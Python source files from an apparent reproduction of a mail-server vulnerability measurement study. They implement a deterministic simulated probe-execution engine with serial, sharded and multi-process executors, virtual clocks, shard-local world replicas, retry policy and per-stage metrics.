        headers, body, title="Table 3: NoMsg/BlankMsg test outcomes by domain set"
    )
