"""The probe-execution engine.

The paper's measurement tool probed ~180K MTA addresses per round
*concurrently*; this package decouples **what to probe** (a work list of
:class:`ProbeTask`) from **how probes run** (pluggable executor
strategies), so the campaign, the scanner, and any future workload share
one engine:

- :class:`SerialExecutor` — the faithful one-at-a-time strategy: the
  shared simulated clock advances after every probe, firing scheduled
  events (patches, MX moves) exactly where the paper's serial tool would
  have observed them.
- :class:`ShardedExecutor` — a worker-pool strategy: the work list is
  sharded over per-worker detection contexts (each with its own
  :class:`~repro.smtp.client.SmtpClient` and
  :class:`~repro.core.detector.VulnerabilityDetector`), dispatched in
  batches, and the shared clock is advanced once per *event horizon*
  instead of once per probe.
- :class:`ProcessShardedExecutor` — true multi-core execution: the work
  list is partitioned by a stable hash of the target address into
  shard-local **world replicas** (:mod:`repro.exec.shardworld`), each
  rebuilt from the seed inside its own worker process, with results,
  evidence, metrics, and trace events merged back deterministically.
  A shard whose worker dies is re-run in-process instead of aborting
  the campaign.

Every strategy executes every task at the same simulated instant — task
``k`` of a stage starts at ``stage_base + k * seconds_per_probe``, and
in-task waits (greylist backoff, ethics pacing) advance only that task's
:class:`VirtualClock` — so campaign results are byte-identical between
executors for the same seed (asserted by ``tests/exec``).
"""

from .engine import (
    ExecutionEnvironment,
    ProbeExecutor,
    ProcessShardedExecutor,
    RetryPolicy,
    SerialExecutor,
    ShardedExecutor,
    WorkerContext,
    make_executor,
    transient_failure,
)
from .metrics import ExecutorMetrics, StageMetrics
# WorldSpec is a deprecated factory shim; worlds are described by
# repro.api.RunConfig now.
from .shardworld import ShardWorld, WorldSpec, shard_of
from .task import ProbeTask
from .virtualclock import ClockRouter, VirtualClock

__all__ = [
    "ClockRouter",
    "ExecutionEnvironment",
    "ExecutorMetrics",
    "ProbeExecutor",
    "ProbeTask",
    "ProcessShardedExecutor",
    "RetryPolicy",
    "SerialExecutor",
    "ShardWorld",
    "ShardedExecutor",
    "StageMetrics",
    "VirtualClock",
    "WorkerContext",
    "WorldSpec",
    "make_executor",
    "shard_of",
    "transient_failure",
]
