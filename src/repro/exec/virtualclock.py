"""Task-local simulated time.

The execution engine assigns every probe task a fixed virtual timeslot
(``stage_base + index * seconds_per_probe``).  While the task runs, all
its time reads and waits go through a :class:`VirtualClock` seeded at
that slot — greylist backoff and ethics pacing advance the task's own
cursor, never the shared :class:`~repro.clock.SimulatedClock`.  Because
the slot is a function of the task's *index*, not of execution order,
every component that reads time during a probe (SMTP servers, the query
log, ethics accounting) observes identical instants whether the work
list ran serially or sharded over a worker pool.

:class:`ClockRouter` is the seam: it is the clock callable handed to the
network, resolvers, and query log, and it answers with the executing
task's virtual time when a probe is in flight (tracked per thread, so a
thread-pool strategy works unchanged) and with the shared clock
otherwise.
"""

from __future__ import annotations

import datetime as _dt
import threading
from typing import List, Optional

from ..clock import SimulatedClock
from ..errors import SimulationError


class VirtualClock:
    """A monotonically advancing, task-local time cursor."""

    __slots__ = ("_now",)

    def __init__(self, start: _dt.datetime) -> None:
        self._now = start

    @property
    def now(self) -> _dt.datetime:
        return self._now

    def advance_seconds(self, seconds: float) -> _dt.datetime:
        if seconds < 0:
            raise SimulationError("cannot move a virtual clock backwards")
        self._now += _dt.timedelta(seconds=seconds)
        return self._now

    def reset(self, start: _dt.datetime) -> None:
        """Re-seed the cursor for the next task's timeslot."""
        self._now = start

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"VirtualClock(now={self._now.isoformat()})"


class ClockRouter:
    """Routes time reads to the in-flight task's virtual clock.

    Callable (returns the current instant), so it drops in anywhere a
    ``clock`` callback is expected.  Overrides are pushed per thread.
    """

    def __init__(self, shared: SimulatedClock) -> None:
        self.shared = shared
        self._local = threading.local()

    def _stack(self) -> List[VirtualClock]:
        stack = getattr(self._local, "stack", None)
        if stack is None:
            stack = self._local.stack = []
        return stack

    def push(self, clock: VirtualClock) -> None:
        """Make ``clock`` the current thread's time source."""
        self._stack().append(clock)

    def pop(self) -> VirtualClock:
        stack = self._stack()
        if not stack:
            raise SimulationError("no virtual clock to pop")
        return stack.pop()

    def active(self) -> Optional[VirtualClock]:
        stack = self._stack()
        return stack[-1] if stack else None

    @property
    def now(self) -> _dt.datetime:
        return self()

    def __call__(self) -> _dt.datetime:
        clock = self.active()
        return clock.now if clock is not None else self.shared.now
