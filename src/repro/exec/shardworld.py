"""Shard-local world replicas for process-level parallelism.

The process executor (:class:`repro.exec.engine.ProcessShardedExecutor`)
cannot ship the campaign's live state to a child process: SMTP servers,
the clock router, and the ethics ledger hold locks and closures that do
not pickle — and even if they did, copying mutable state once would go
stale the moment a scheduled patch or MX move fired.  Instead, nothing
but *values* cross the boundary:

- down: a :class:`repro.api.RunConfig` (population + campaign config,
  seed, retry policy) plus an ordered stream of world events — every
  probe stage's shard slice and every notification — from which a child
  deterministically **rebuilds** its slice of the world and replays
  history;
- up: a :class:`ShardStageResult` — detection results, query-log entries,
  trace events, and a metrics snapshot, all plain data.

A :class:`ShardWorld` mirrors :meth:`repro.simulation.Simulation.build`
exactly (same seeded RNG forks in the same order), except that its
network's ``ip_filter`` restricts the addressable set to the addresses
:func:`shard_of` assigns to this shard — under the lazy world a replica
only ever materializes the servers its slice actually probes.  The shard
key is a pure function of the IP, so a server's whole mutable history —
greylist memory, blacklist counters, crash noise — lives in exactly one
shard for the campaign's duration, and patches/moves are pure functions
of the clock folded in on touch, identical in every shard.  Each
stage slice advances the replica's clock through the same instants the
serial executor would, so scheduled events partition the work list
identically and merged results stay byte-identical to a serial run.

Rebuild-and-replay is also what makes workers re-spawnable *mid-
timeline*: a resumed campaign restores the parent's event history from a
checkpoint, and the first stage dispatched to a fresh worker ships that
whole history, so the replica catches up from seed exactly as it would
after a worker crash.

Geography is the one build step a replica skips: it draws from an
independent ``"geo"`` RNG fork and only labels units with countries,
which no probe-path code reads.
"""

from __future__ import annotations

import datetime as _dt
import os
import warnings
import zlib
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple, TYPE_CHECKING

from ..obs.context import Observation, observing
from ..errors import SimulationError
from .engine import RetryPolicy, WorkerContext
from .metrics import StageMetrics
from .task import ProbeTask

if TYPE_CHECKING:
    from ..api import RunConfig
    from ..core.campaign import CampaignConfig
    from ..core.detector import DetectionResult
    from ..dns.querylog import QueryLogEntry
    from ..internet.population import PopulationConfig
    from ..obs.trace import TraceEvent


def shard_of(ip: str, num_shards: int) -> int:
    """Which shard owns ``ip`` — stable across runs and platforms."""
    return zlib.crc32(ip.encode("ascii")) % num_shards


def WorldSpec(
    population_config: "PopulationConfig",
    campaign_config: "CampaignConfig",
    seed: int,
    retry: Optional[RetryPolicy] = None,
) -> "RunConfig":
    """Deprecated shim: build the :class:`repro.api.RunConfig` that
    replaced the old ``WorldSpec`` dataclass.

    The process executor's world description and the simulation's build
    arguments were the same facts spelled twice; both now live in one
    :class:`~repro.api.RunConfig`.
    """
    warnings.warn(
        "WorldSpec is deprecated; construct repro.api.RunConfig directly",
        DeprecationWarning,
        stacklevel=2,
    )
    from ..api import RunConfig

    return RunConfig(
        scale=population_config.scale,
        seed=seed,
        population=population_config,
        campaign=campaign_config,
        retry=retry,
    )


@dataclass(frozen=True)
class NotifyEvent:
    """The parent ran the notification campaign at ``when``.

    Replicas replay it on their own
    :class:`~repro.notification.delivery.NotificationCampaign` so the
    notification RNG stream and the scheduled open/patch callbacks stay
    in lockstep with the parent's.
    """

    domains: Tuple[str, ...]
    when: _dt.datetime

    def for_shard(self, shard_id: int) -> "NotifyEvent":
        return self


@dataclass(frozen=True)
class StageSlice:
    """One stage's work for one shard.

    ``tasks`` holds ``(work-list index, task)`` pairs; ``count`` is the
    full stage's task count, so a shard with an empty slice still
    advances its clock across the whole stage window (firing any
    scheduled events) before the next event arrives.
    """

    ordinal: int
    stage: str
    suite: str
    base: _dt.datetime
    count: int
    tasks: Tuple[Tuple[int, ProbeTask], ...]
    trace: bool


@dataclass
class StageAssignment:
    """Parent-side record of one dispatched stage (all shards)."""

    ordinal: int
    stage: str
    suite: str
    base: _dt.datetime
    count: int
    trace: bool
    assigned: Dict[int, List[Tuple[int, ProbeTask]]]

    def for_shard(self, shard_id: int) -> StageSlice:
        return StageSlice(
            ordinal=self.ordinal,
            stage=self.stage,
            suite=self.suite,
            base=self.base,
            count=self.count,
            tasks=tuple(self.assigned.get(shard_id, ())),
            trace=self.trace,
        )


@dataclass
class TaskOutput:
    """One task's evidence, ready to merge in work-list order."""

    index: int
    result: "DetectionResult"
    queries: List["QueryLogEntry"]
    events: List["TraceEvent"]


@dataclass
class ShardStageResult:
    """Everything one shard produced for one stage."""

    shard_id: int
    outputs: List[TaskOutput]
    probes_attempted: int
    retried: int
    refused: int
    queries_observed: int
    #: :meth:`repro.obs.metrics.MetricsRegistry.snapshot` of the stage.
    metrics: dict
    connection_attempts: int
    connections_established: int
    connections_opened: int
    peak_concurrency: int


class ShardWorld:
    """A shard's deterministic replica of the campaign world."""

    def __init__(
        self,
        spec: "RunConfig",
        shard_id: int,
        num_shards: int,
        *,
        perf_role: Optional[str] = None,
    ) -> None:
        # Local imports: this module is imported by ``repro.exec`` while
        # ``repro.core.campaign`` may still be mid-import (it imports the
        # exec package itself), so the heavyweight world modules load
        # only when a replica is actually built.
        from ..clock import SimulatedClock
        from ..core.campaign import MeasurementCampaign
        from ..internet.mta_fleet import build_fleet
        from ..internet.patching import PatchBehaviorModel
        from ..internet.population import generate_population
        from ..notification.delivery import NotificationCampaign

        self.spec = spec
        self.shard_id = shard_id
        self.num_shards = num_shards

        # Mirror Simulation.build step for step (geography skipped; its
        # RNG fork is independent and countries never feed the probe path).
        population = generate_population(spec.resolved_population())
        campaign_config = spec.resolved_campaign()
        fleet = build_fleet(population)
        clock = SimulatedClock(start=campaign_config.initial_measurement)
        patch_model = PatchBehaviorModel(seed=spec.seed)
        self.campaign = MeasurementCampaign(
            population,
            fleet,
            config=campaign_config,
            clock=clock,
            executor="serial",
            retry=spec.retry,
            ip_filter=lambda ip: shard_of(ip, num_shards) == shard_id,
        )
        self.notification = NotificationCampaign(
            fleet, patch_model, self.campaign.network, clock, seed=spec.seed
        )
        # Replicas are always lazy: servers materialize on first probe
        # of this shard's slice, and patches/moves fold in on touch.
        patch_model.bind_fleet(fleet)
        self.campaign.network.bind_patch_model(patch_model)

        # Wall-clock sideband: when the spec carries a perf directory,
        # each replica writes its own part streams (role "shard<k>", or
        # "shard<k>f" for an in-process fallback replica) that the parent
        # merges deterministically at finalize.  Nothing here feeds back
        # into trace events or results.
        self.perf = None
        if getattr(spec, "perf", None):
            from ..obs.perf import PerfRecorder, campaign_counters

            self.perf = PerfRecorder(
                spec.perf, role=perf_role or f"shard{shard_id}"
            )
            self.perf.start_sampler(
                lambda: campaign_counters(self.campaign)
            )

    @property
    def key(self) -> Tuple["RunConfig", int, int]:
        return (self.spec, self.shard_id, self.num_shards)

    # -- event replay ---------------------------------------------------------

    def apply(self, events: List[object]) -> ShardStageResult:
        """Replay ``events`` in order; observe and return the last one.

        All but the final event are history the parent has already merged
        (either from this replica or from a worker that since died), so
        they replay *silently* — same state transitions, no evidence
        collected.  The final event must be the current stage's slice.
        """
        result: Optional[ShardStageResult] = None
        for position, event in enumerate(events):
            observed = position == len(events) - 1
            if isinstance(event, NotifyEvent):
                self._apply_notify(event)
            elif isinstance(event, StageSlice):
                result = self._apply_stage(event, observed=observed)
            else:
                raise SimulationError(f"unknown world event {event!r}")
        if result is None:
            raise SimulationError(
                "world-event batch did not end with a stage slice"
            )
        return result

    def _apply_notify(self, event: NotifyEvent) -> None:
        clock = self.campaign.clock
        clock.advance_to(max(clock.now, event.when))
        self.notification.send_notifications(list(event.domains), event.when)

    def _apply_stage(self, ev: StageSlice, *, observed: bool) -> Optional[ShardStageResult]:
        campaign = self.campaign
        env = campaign.env
        clock = campaign.clock
        executor = campaign.executor  # serial machinery: _execute + retry
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        clock.advance_to(max(clock.now, ev.base))
        if ev.suite:
            campaign.labels.adopt_suite(ev.suite)

        # A fresh per-stage observation sandbox: child metrics/trace are
        # collected here and shipped up as values, never ambient state.
        obs = Observation(trace=ev.trace and observed)
        obs.bind_clock(campaign.clock_router)
        tracing = obs.tracer.enabled
        if self.perf is not None and tracing:
            obs.attach_perf(self.perf)
        if tracing:
            obs.tracer.seed_stage_ordinal(ev.ordinal)
        metrics = StageMetrics(stage=ev.stage, workers=1)
        network, ethics = env.network, env.ethics
        attempts0 = network.connection_attempts
        established0 = network.connections_established
        opened0 = ethics.connections_opened
        log = campaign.responder.log
        outputs: List[TaskOutput] = []
        with observing(obs):
            if tracing:
                # Scope parity with the parent: the stage scope consumes
                # the same ordinal/seq slots, but the child's own
                # stage.begin event is excluded from the upload (the
                # parent emits the authoritative one).
                obs.tracer.begin_stage(ev.stage, tasks=ev.count)
            ctx = WorkerContext(env, 0)
            for index, task in ev.tasks:
                # Fire every event scheduled before this task's slot —
                # the serial executor's end-of-slot advance rule.
                clock.advance_to(max(clock.now, ev.base + index * slot))
                qmark = len(log)
                emark = obs.tracer.event_count() if tracing else 0
                result = executor._execute(
                    ctx, task, index, ev.base + index * slot, metrics
                )
                outputs.append(
                    TaskOutput(
                        index=index,
                        result=result,
                        queries=log.entries_since(qmark),
                        events=obs.tracer.events_since(emark) if tracing else [],
                    )
                )
            clock.advance_to(max(clock.now, ev.base + ev.count * slot))
        if self.perf is not None:
            self.perf.flush(with_sample=True)
        if not observed:
            return None
        return ShardStageResult(
            shard_id=self.shard_id,
            outputs=outputs,
            probes_attempted=metrics.probes_attempted,
            retried=metrics.retried,
            refused=metrics.refused,
            queries_observed=metrics.queries_observed,
            metrics=obs.metrics.snapshot(),
            connection_attempts=network.connection_attempts - attempts0,
            connections_established=network.connections_established - established0,
            connections_opened=ethics.connections_opened - opened0,
            peak_concurrency=ethics.peak_concurrency,
        )


# -- child-process entry points ---------------------------------------------

#: The one world this worker process serves (each pool has one worker,
#: each worker serves exactly one shard for the campaign's lifetime).
_WORLD: Optional[ShardWorld] = None

#: The (spec, shard_id, num_shards) triple delivered by the pool
#: initializer — shipped exactly once per worker process, so per-stage
#: submissions carry only the event delta.
_SPEC: Optional[Tuple["RunConfig", int, int]] = None


def _child_init(spec: "RunConfig", shard_id: int, num_shards: int) -> None:
    """Pool initializer: pin this worker's world spec (runs once)."""
    global _SPEC
    _SPEC = (spec, shard_id, num_shards)


def _child_events(events: List[object]) -> ShardStageResult:
    """Run one batch of world events against the initializer-pinned world."""
    global _WORLD
    if _WORLD is None:
        if _SPEC is None:
            raise SimulationError("worker process missing _child_init spec")
        # Forked children inherit the parent's ambient observation;
        # detach it so replica evidence never leaks into a stale copy.
        from ..obs import context as _obs

        _obs.ACTIVE = None
        _WORLD = ShardWorld(*_SPEC)
    return _WORLD.apply(events)


def _child_run(
    spec: "RunConfig", shard_id: int, num_shards: int, events: List[object]
) -> ShardStageResult:
    """Run one batch of world events in a worker process.

    Kept for callers that ship the spec with every submission; the
    executor now delivers the spec through :func:`_child_init` and
    submits :func:`_child_events` instead.
    """
    global _WORLD
    if _WORLD is None or _WORLD.key != (spec, shard_id, num_shards):
        from ..obs import context as _obs

        _obs.ACTIVE = None
        _WORLD = ShardWorld(spec, shard_id, num_shards)
    return _WORLD.apply(events)


def _exit_child() -> None:
    """Fault injection: die without cleanup, as a crashed worker would."""
    os._exit(1)
