"""The unit of work the execution engine schedules.

A :class:`ProbeTask` is *what* to probe — one mail-server address, the
test-suite label its DNS evidence files under, the probe method that
worked last time (if any), and a domain the server hosts mail for (the
RCPT TO target).  *How* the probe runs — which worker, at which simulated
instant, with how many retries — is the executor's business.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..core.detector import ProbeMethod


@dataclass(frozen=True)
class ProbeTask:
    """One address to probe within a measurement stage."""

    ip: str
    suite: str
    preferred_method: Optional[ProbeMethod] = None
    recipient_domain: Optional[str] = None
