"""Per-stage execution counters.

Every executor keeps one :class:`StageMetrics` per measurement stage
(the initial sweep, each longitudinal round, the final snapshot).  The
counters answer the operational questions a large-scale scan raises:
how many probes ran (including retries), how many were refused, how much
DNS evidence arrived, and how the stage's wall-clock cost compares to
the simulated time it covered.

When an observation is active (:mod:`repro.obs`), the executors also
publish these counters — plus per-stage wall-time and backoff
histograms — into the open :class:`~repro.obs.metrics.MetricsRegistry`,
which generalizes this fixed schema to every subsystem.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List


@dataclass
class StageMetrics:
    """Counters for one executed measurement stage."""

    stage: str
    workers: int = 1
    tasks: int = 0
    #: detector invocations, including executor-level retries.
    probes_attempted: int = 0
    retried: int = 0
    refused: int = 0
    #: DNS queries observed at the measurement server for this stage.
    queries_observed: int = 0
    #: dispatch batches issued (1 per task for the serial strategy).
    batches: int = 0
    wall_seconds: float = 0.0
    sim_seconds: float = 0.0

    @property
    def probes_per_second(self) -> float:
        """Wall-clock probe throughput."""
        if self.wall_seconds <= 0:
            return 0.0
        return self.probes_attempted / self.wall_seconds

    def to_dict(self) -> dict:
        """JSON-ready snapshot (``--metrics-out`` and benchmark files)."""
        return {
            "stage": self.stage,
            "workers": self.workers,
            "tasks": self.tasks,
            "probes_attempted": self.probes_attempted,
            "retried": self.retried,
            "refused": self.refused,
            "queries_observed": self.queries_observed,
            "batches": self.batches,
            "wall_seconds": self.wall_seconds,
            "sim_seconds": self.sim_seconds,
            "probes_per_second": self.probes_per_second,
        }


@dataclass
class ExecutorMetrics:
    """All stages an executor has run, in order."""

    stages: List[StageMetrics] = field(default_factory=list)

    def begin_stage(self, stage: str, *, workers: int = 1) -> StageMetrics:
        metrics = StageMetrics(stage=stage, workers=workers)
        self.stages.append(metrics)
        return metrics

    def total(self) -> StageMetrics:
        """All stages aggregated (workers = max over stages)."""
        total = StageMetrics(stage="total")
        for stage in self.stages:
            total.workers = max(total.workers, stage.workers)
            total.tasks += stage.tasks
            total.probes_attempted += stage.probes_attempted
            total.retried += stage.retried
            total.refused += stage.refused
            total.queries_observed += stage.queries_observed
            total.batches += stage.batches
            total.wall_seconds += stage.wall_seconds
            total.sim_seconds += stage.sim_seconds
        return total

    def to_dict(self) -> dict:
        """Per-stage snapshots plus the aggregate, JSON-ready."""
        return {
            "stages": [stage.to_dict() for stage in self.stages],
            "total": self.total().to_dict(),
        }

    def render_markdown(self) -> str:
        """A markdown table over every stage plus the aggregate row."""
        lines = [
            "| stage | tasks | probes | retried | refused | queries | sim s | wall s | probes/s |",
            "|---|---|---|---|---|---|---|---|---|",
        ]
        for m in self.stages + ([self.total()] if self.stages else []):
            lines.append(
                f"| {m.stage} | {m.tasks} | {m.probes_attempted} | {m.retried} | "
                f"{m.refused} | {m.queries_observed} | {m.sim_seconds:.1f} | "
                f"{m.wall_seconds:.3f} | {m.probes_per_second:.0f} |"
            )
        return "\n".join(lines)
