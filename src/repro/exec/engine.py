"""Pluggable probe-execution strategies.

All executors run every :class:`~repro.exec.task.ProbeTask` of a stage
at the same simulated instant — task ``k`` starts at
``stage_base + k * seconds_per_probe`` — and differ only in how the
*shared* clock (which fires scheduled events: patches, MX migrations,
blacklist flips) is driven forward:

- :class:`SerialExecutor` advances it after every task, the way the
  one-at-a-time paper tool experienced time;
- :class:`ShardedExecutor` computes the next *event horizon*, dispatches
  every task whose timeslot precedes it across the worker pool in
  batches, and advances the clock once per horizon;
- :class:`ProcessShardedExecutor` escapes the GIL entirely: it partitions
  the work list by a stable hash of the target IP into shard-local world
  replicas (:mod:`repro.exec.shardworld`), runs each shard in its own
  ``ProcessPoolExecutor`` worker, and merges results, query-log evidence,
  metrics, and trace events back deterministically.

An event scheduled at instant ``E`` therefore partitions the work list
identically under every strategy (tasks with slots before ``E`` probe
the pre-event world), which is what makes campaign results byte-identical
between them — the property ``tests/exec`` asserts at scale 0.02.
"""

from __future__ import annotations

import datetime as _dt
import logging
import pickle
import time
from concurrent.futures import BrokenExecutor, Future, ProcessPoolExecutor
from dataclasses import dataclass, field, replace as _dc_replace
from typing import Callable, Dict, List, Optional, Sequence, Set, Tuple, Union

from ..clock import SimulatedClock
from ..obs import context as _obs
from ..obs.progress import ProgressReporter
from ..core.detector import (
    DetectionOutcome,
    DetectionResult,
    VulnerabilityDetector,
)
from ..core.ethics import EthicsControls
from ..core.labels import LabelAllocator, LabelBlock
from ..dns.server import SpfTestResponder
from ..errors import SimulationError
from ..smtp.client import SmtpClient, TransactionStatus
from ..smtp.protocol import ReplyCode
from ..smtp.transport import Network
from .metrics import ExecutorMetrics, StageMetrics
from .task import ProbeTask
from .virtualclock import ClockRouter, VirtualClock

_log = logging.getLogger(__name__)


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded retry with exponential backoff for transient SMTP failures.

    A probe whose dialogue broke on a transient condition — a 421
    service-not-available reply, or greylist deferrals that outlasted the
    detector's own 8-minute waits — is re-driven from scratch after
    ``backoff_seconds * backoff_factor**attempt`` of (virtual) time, at
    most ``max_retries`` times.  The default is no retries: the paper's
    methodology took a broken dialogue as SMTP-Failed for the round.
    """

    max_retries: int = 0
    backoff_seconds: float = 60.0
    backoff_factor: float = 2.0

    def delay(self, attempt: int) -> float:
        """Backoff before retry number ``attempt + 1`` (0-based)."""
        return self.backoff_seconds * (self.backoff_factor ** attempt)


def transient_failure(result: DetectionResult) -> bool:
    """True if a failed detection looks retryable (421 / greylisting)."""
    if result.outcome != DetectionOutcome.SMTP_FAILED:
        return False
    for transaction in result.transactions:
        if transaction.status == TransactionStatus.GREYLISTED:
            return True
        if any(
            reply.code == ReplyCode.SERVICE_UNAVAILABLE
            for reply in transaction.replies
        ):
            return True
    return False


@dataclass
class ExecutionEnvironment:
    """Everything an executor needs from its host (campaign or scanner).

    ``router`` enables the virtual-time protocol; when it is ``None``
    (e.g. the scanner was handed a network it cannot re-clock), probes
    read and advance the shared clock directly and only the serial
    strategy is available.
    """

    clock: SimulatedClock
    network: Network
    responder: SpfTestResponder
    labels: LabelAllocator
    ethics: EthicsControls
    client_ip: str = "198.51.100.7"
    seconds_per_probe: float = 0.25
    router: Optional[ClockRouter] = None
    detector_kwargs: Dict[str, object] = field(default_factory=dict)


class WorkerLabels:
    """A per-worker :class:`LabelAllocator` facade.

    Ids are drawn from the current task's reserved block, so the labels a
    task uses depend only on its position in the work list — never on
    which worker ran it or in what order.
    """

    def __init__(self, parent: LabelAllocator) -> None:
        self.parent = parent
        self._block: Optional[LabelBlock] = None

    @property
    def base(self):
        return self.parent.base

    def begin_task(self, block: LabelBlock) -> None:
        self._block = block

    def new_id(self, suite: str, target_ip: str) -> str:
        block = self._block
        if block is None or block.suite != suite:
            raise SimulationError(
                f"no label block reserved for suite {suite!r} on this worker"
            )
        return block.new_id(target_ip)

    def ip_for(self, suite: str, test_id: str) -> Optional[str]:
        return self.parent.ip_for(suite, test_id)

    def mail_from_domain(self, suite: str, test_id: str) -> str:
        return self.parent.mail_from_domain(suite, test_id)


class WorkerContext:
    """One worker's private detection context.

    Each worker owns its SMTP client, its detector, its virtual clock,
    and its label facade; all evidence still lands in the shared query
    log, ethics ledger, and label registry.
    """

    def __init__(self, env: ExecutionEnvironment, worker_id: int) -> None:
        self.worker_id = worker_id
        self.env = env
        self.vclock = VirtualClock(env.clock.now)
        self.labels = WorkerLabels(env.labels)
        self.client = SmtpClient(env.network, client_ip=env.client_ip)
        if env.router is not None:
            wait: Callable[[float], None] = self.vclock.advance_seconds
            now = lambda: self.vclock.now
        else:
            wait = env.clock.advance_seconds
            now = lambda: env.clock.now
        self.detector = VulnerabilityDetector(
            self.client,
            env.responder,
            self.labels,
            ethics=env.ethics,
            wait=wait,
            now=now,
            **env.detector_kwargs,
        )


class ProbeExecutor:
    """Base strategy: per-task execution, retry, and metrics plumbing."""

    name = "abstract"

    def __init__(
        self,
        env: ExecutionEnvironment,
        *,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        self.env = env
        self.retry = retry or RetryPolicy()
        self.metrics = ExecutorMetrics()
        #: optional live stderr reporter (``--progress``); operator-facing
        #: only — it never writes into the trace or the metrics registry.
        self.progress: Optional[ProgressReporter] = None
        #: each detect() drives at most two probe methods; each attempt
        #: (original + retries) therefore needs at most two id labels.
        self._stride = 2 * (1 + self.retry.max_retries)

    # -- public API -----------------------------------------------------------

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        """Execute one stage's work list; results align with ``tasks``."""
        raise NotImplementedError

    def record_notification(
        self, domains: Sequence[str], when: _dt.datetime
    ) -> None:
        """The campaign ran its notifier at ``when``.

        Only the process executor cares: shard-world replicas must replay
        the notification's clock and RNG effects.  Everyone else shares
        the parent's clock and already saw them.
        """

    def shutdown(self) -> None:
        """Release executor-held resources (worker processes)."""

    # -- shared machinery ------------------------------------------------------

    def _slot(self, base: _dt.datetime, index: int, slot: _dt.timedelta) -> _dt.datetime:
        return base + index * slot

    def _begin_stage_obs(self, stage: str, tasks: Sequence[ProbeTask]):
        """Open a trace stage scope; returns the active observation."""
        if self.progress is not None:
            self.progress.begin_stage(stage, len(tasks))
        obs = _obs.ACTIVE
        if obs is not None and obs.tracer.enabled:
            obs.tracer.begin_stage(stage, tasks=len(tasks))
        return obs

    def _end_stage_obs(self, obs, metrics: StageMetrics) -> None:
        """Close the stage scope and publish stage counters.

        Trace attributes are limited to simulation-derived values (task
        and probe counts, simulated seconds): wall time, worker counts,
        and batch counts differ between executors and are banned from
        the trace — they go to the metrics registry instead.
        """
        if self.progress is not None:
            self.progress.end_stage(metrics)
        if obs is None:
            return
        m = obs.metrics
        m.counter("exec.stages").inc(self.name)
        m.counter("exec.probes").inc(amount=metrics.probes_attempted)
        m.counter("exec.refused").inc(amount=metrics.refused)
        m.counter("exec.batches").inc(amount=metrics.batches)
        m.histogram("exec.stage_wall_seconds").observe(metrics.wall_seconds)
        m.histogram("exec.stage_probes_per_second").observe(metrics.probes_per_second)
        if obs.tracer.enabled:
            obs.tracer.end_stage(
                probes=metrics.probes_attempted,
                retried=metrics.retried,
                refused=metrics.refused,
                queries=metrics.queries_observed,
                sim_seconds=metrics.sim_seconds,
            )
        if _log.isEnabledFor(logging.INFO):
            _log.info(
                "stage %s: %d tasks, %d probes (%d retried, %d refused), "
                "%d DNS queries over %.0f simulated seconds",
                metrics.stage, metrics.tasks, metrics.probes_attempted,
                metrics.retried, metrics.refused, metrics.queries_observed,
                metrics.sim_seconds,
            )
        # Sideband only: push buffered wall-timing records to disk at
        # stage boundaries (after the wall_seconds metric is captured, so
        # the flush itself is not charged to the stage).
        perf = getattr(obs, "perf", None)
        if perf is not None:
            perf.flush()

    def _execute(
        self,
        ctx: WorkerContext,
        task: ProbeTask,
        index: int,
        virtual_start: _dt.datetime,
        metrics: StageMetrics,
    ) -> DetectionResult:
        env = self.env
        block = env.labels.reserve_block(
            task.suite, index * self._stride, self._stride
        )
        ctx.labels.begin_task(block)
        obs = _obs.ACTIVE
        tracing = obs is not None and obs.tracer.enabled
        if tracing:
            obs.tracer.begin_task(
                index,
                f"{task.suite}/{task.ip}",
                vt=virtual_start,
                ip=task.ip,
                suite=task.suite,
                preferred_method=(
                    task.preferred_method.value if task.preferred_method else None
                ),
            )
        if env.router is not None:
            ctx.vclock.reset(virtual_start)
            env.router.push(ctx.vclock)
        try:
            result = self._detect_with_retry(ctx, task, metrics)
            if obs is not None:
                # Still inside the task's virtual timeslot: stamp the end
                # event with the task clock, not the shared one.
                end_vt = ctx.vclock.now if env.router is not None else env.clock.now
                self._observe_task(obs, tracing, result, end_vt)
            if self.progress is not None:
                self.progress.task_done(metrics)
            return result
        except BaseException:
            if tracing:
                obs.tracer.drop_task()
            raise
        finally:
            if env.router is not None:
                env.router.pop()

    def _observe_task(self, obs, tracing: bool, result, end_vt: _dt.datetime) -> None:
        """Per-task metrics and the ``task.end`` trace event."""
        obs.metrics.counter("exec.outcomes").inc(result.outcome.value)
        obs.metrics.histogram("dns.queries_per_probe").observe(result.queries_observed)
        if tracing:
            obs.tracer.end_task(
                vt=end_vt,
                outcome=result.outcome.value,
                queries=result.queries_observed,
                method=(
                    result.successful_method.value
                    if result.successful_method is not None
                    else None
                ),
                behaviors=sorted(b.value for b in result.behaviors),
            )

    def _detect_with_retry(
        self, ctx: WorkerContext, task: ProbeTask, metrics: StageMetrics
    ) -> DetectionResult:
        attempt = 0
        while True:
            result = ctx.detector.detect(
                task.ip,
                task.suite,
                preferred_method=task.preferred_method,
                recipient_domain=task.recipient_domain,
            )
            metrics.probes_attempted += 1
            metrics.queries_observed += result.queries_observed
            if result.outcome == DetectionOutcome.REFUSED:
                metrics.refused += 1
            if attempt >= self.retry.max_retries or not transient_failure(result):
                return result
            metrics.retried += 1
            backoff = self.retry.delay(attempt)
            obs = _obs.ACTIVE
            if obs is not None:
                obs.metrics.counter("exec.retries").inc()
                obs.metrics.histogram("exec.backoff_seconds").observe(backoff)
                if obs.tracer.enabled:
                    obs.tracer.event(
                        "task.retry", attempt=attempt, backoff_seconds=backoff
                    )
            attempt += 1
            if self.env.router is not None:
                ctx.vclock.advance_seconds(backoff)
            else:
                self.env.clock.advance_seconds(backoff)


class SerialExecutor(ProbeExecutor):
    """One probe at a time, advancing the shared clock after each."""

    name = "serial"

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        env = self.env
        metrics = self.metrics.begin_stage(stage, workers=1)
        metrics.tasks = len(tasks)
        obs = self._begin_stage_obs(stage, tasks)
        started = time.perf_counter()
        base = env.clock.now
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        ctx = WorkerContext(env, 0)
        results: List[DetectionResult] = []
